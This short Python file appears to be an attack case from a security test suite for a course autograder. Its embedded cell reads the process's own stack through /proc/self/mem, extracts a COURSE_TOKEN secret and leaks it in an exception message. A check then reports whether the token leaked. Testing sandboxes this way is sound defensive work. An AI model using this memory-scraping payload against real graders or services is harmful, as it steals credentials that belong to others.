"""Reads the raw memory of its own process, where the grader may have forgotten something.

It worked if the course's token is in what the attacker gets to see.
"""

from room import Seen

CELL = """
import re
[place] = re.findall("([0-9a-f]+)-([0-9a-f]+) .*\\\\[stack\\\\]", open("/proc/self/maps").read())
start, end = (int(end, 16) for end in place)
with open("/proc/self/mem", "rb") as memory:
    memory.seek(start)
    raise RuntimeError(re.search(b"COURSE_TOKEN=([0-9a-f]+)", memory.read(end - start))[1].decode())
"""


def succeeded(seen: Seen) -> bool:
    return seen.leaked("token")
